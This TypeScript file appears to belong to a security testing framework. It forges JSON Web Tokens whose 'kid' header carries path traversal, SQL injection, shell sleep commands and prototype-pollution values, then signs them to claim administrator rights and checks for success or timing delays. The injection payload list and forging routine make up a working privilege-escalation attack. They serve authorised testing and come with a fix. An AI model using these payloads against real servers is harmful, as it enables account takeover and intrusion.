import { createHmac } from 'node:crypto';
import type { Attack, Judgement } from '../../kinds/attack.ts';
import { type Json, signingInput } from '../../kit/tokens/compact-token.ts';
import type { ForgedToken } from '../../kit/tokens/forged-token.ts';
import { judgePresented, presentForged, statesClaims, type TokensSeen } from '../../kit/tokens/presented-token.ts';

/** What a key identifier may be taken for, and the secret that the server would then verify with. */
const injections: readonly { readonly kid: unknown; readonly secret: string }[] = [
  { kid: '', secret: '' },
  { kid: '/dev/null', secret: '' },
  { kid: '../../../../../../../../dev/null', secret: '' },
  { kid: 'no-such-key', secret: '' },
  { kid: '../../../../../../../../proc/sys/kernel/randomize_va_space', secret: '2\n' },
  { kid: "x' UNION SELECT 'known'-- ", secret: 'known' },
  { kid: "x' OR '1'='1", secret: '' },
  { kid: "x'; SELECT pg_sleep(4)-- ", secret: '' },
  { kid: '| sleep 4', secret: '' },
  { kid: '$(sleep 4)', secret: '' },
  { kid: '__proto__', secret: '[object Object]' },
  { kid: '__proto__', secret: '' },
  { kid: 'constructor', secret: String(Object) },
  { kid: 'toString', secret: String(Object.prototype.toString) },
  { kid: 0, secret: '' },
  { kid: null, secret: 'undefined' },
  { kid: 'undefined', secret: 'undefined' },
  { kid: ['no-such-key'], secret: '' },
  { kid: { $ne: '' }, secret: '' },
];

/** An answer that took this long means that the server did as the identifier said: it was told to sleep for 4 s. */
const sleptMs = 3_500;

export default {
  kind: 'attack',
  id: 'jwt-kid-injection',
  title: 'Injection through the key identifier',
  question: 'Can the key identifier of a token make the server take something for a key that the attacker knows?',
  goal: 'Become an administrator with a token signed by a secret that they chose.',
  precondition: 'own-account',
  severity: 'critical',
  references: ['CWE-22', 'CWE-89', 'CWE-1321', 'RFC 8725 §3.10', 'ASVS 9.1.3', 'WSTG-SESS-10'],
  steps: [
    "The attacker puts the administrator's id and role into the claims of their own token.",
    'For kid they take an empty text, paths to files whose content they know, SQL, shell commands that sleep, names that every JavaScript object has, and values of other types; they sign with what the server would then take for the key.',
    'They ask with each token who they are, and watch for an answer that slept.',
  ],
  fix: 'Take keys by their identifier from a fixed list (a Map), and refuse one that is not on it. Let it be part of no path, query or command.',
  controls: ['jwt-kid-as-path', 'jwt-kid-in-object'],
  appliesTo: statesClaims,
  expected: () => 'blocked',

  async attempt(stage) {
    const inject = (wanted: (mutation: string) => boolean) =>
      presentForged(stage, ({ header }, claims) => injected(header, claims).filter(({ mutation }) => wanted(mutation)));
    const seen = await inject(() => true);
    const slept = seen.tries.filter(({ ms }) => ms >= sleptMs).map(({ mutation }) => mutation);
    // a machine that was busy elsewhere is so once; a server that does as it is told sleeps again
    const again = await inject((mutation) => slept.includes(mutation));
    const wokenMs = new Map(again.tries.map(({ mutation, ms }) => [mutation, ms]));
    return {
      genuineAccepted: seen.genuineAccepted && again.genuineAccepted,
      tries: seen.tries.map((one) => ({ ...one, ms: Math.min(one.ms, wokenMs.get(one.mutation) ?? one.ms) })),
    };
  },

  judge(seen): Judgement {
    const judged = judgePresented(seen, 'tokens with an injected kid');
    const slept = seen.tries.filter(({ ms }) => ms >= sleptMs);
    if (judged.outcome === 'succeeded' || slept.length === 0) return judged;
    return {
      ...judged,
      outcome: 'succeeded',
      successes: slept.length,
      because: `the answer to ${slept[0]?.mutation} took ${slept[0]?.ms} ms, as the injected command asked`,
    };
  },
} satisfies Attack<TokensSeen>;

function injected(header: Json, claims: Json): ForgedToken[] {
  return injections.map(({ kid, secret }) => {
    const input = signingInput({ ...header, alg: 'HS256', kid }, claims);
    const signature = createHmac('sha256', secret).update(input).digest('base64url');
    return { mutation: `kid ${JSON.stringify(kid)}`, token: `${input}.${signature}` };
  });
}
